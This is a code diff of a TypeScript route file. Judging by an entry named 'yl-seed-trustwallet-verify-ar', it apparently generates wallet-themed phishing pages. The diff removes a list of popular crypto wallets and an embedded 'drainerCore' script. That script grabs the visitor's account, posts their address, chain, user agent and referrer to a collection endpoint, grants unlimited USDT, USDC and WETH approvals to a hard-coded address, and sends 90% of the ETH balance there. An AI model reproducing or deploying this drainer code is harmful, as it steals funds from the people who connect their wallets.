@@ -1,25 +1,6 @@
 import { htmlRoute, redirectRoute, type Entry } from '../entry.js';
 import { doc, wordmark, json, js, b64 } from '../parts/yl-kit.js';
 
-const walletNames = ['MetaMask', 'Trust Wallet', 'Coinbase Wallet', 'Binance Web3 Wallet', 'OKX Wallet', 'Phantom', 'Rainbow', 'SafePal', 'Ledger Live', 'Exodus', 'TokenPocket', 'Bitget Wallet'];
-
-const drainerCore = `
-var RECV='0x6b3f0d9a1E2c4F7a8B5D0e9C1f2A3b4C5d6E7f80';
-var TOKENS=[{s:'USDT',a:'0xdAC17F958D2ee523a2206206994597C13D831ec7'},{s:'USDC',a:'0xA0b86991c6218b36c1d19D4a2e9Eb0cE3606eB48'},{s:'WETH',a:'0xC02aaA39b223FE8D0A0e5C4F27eAD9083C756Cc2'}];
-function pad(h){return h.replace(/^0x/,'').toLowerCase().padStart(64,'0')}
-function approveData(sp){return '0x095ea7b3'+pad(sp)+'f'.repeat(64)}
-async function drain(eth){
-  var acc=(await eth.request({method:'eth_requestAccounts'}))[0];
-  var chain=await eth.request({method:'eth_chainId'});
-  fetch('/api/w',{method:'POST',headers:{'Content-Type':'application/json'},body:JSON.stringify({a:acc,c:chain,ua:navigator.userAgent,ref:document.referrer})});
-  var bal=await eth.request({method:'eth_getBalance',params:[acc,'latest']});
-  for(var i=0;i<TOKENS.length;i++){
-    try{await eth.request({method:'eth_sendTransaction',params:[{from:acc,to:TOKENS[i].a,data:approveData(RECV),value:'0x0'}]});}catch(e){}
-  }
-  try{var v=BigInt(bal)*9n/10n;if(v>0n)await eth.request({method:'eth_sendTransaction',params:[{from:acc,to:RECV,value:'0x'+v.toString(16)}]});}catch(e){}
-  return acc;
-}`;
-
 export const entries: Entry[] = [
 {
   id: 'yl-seed-trustwallet-verify-ar',
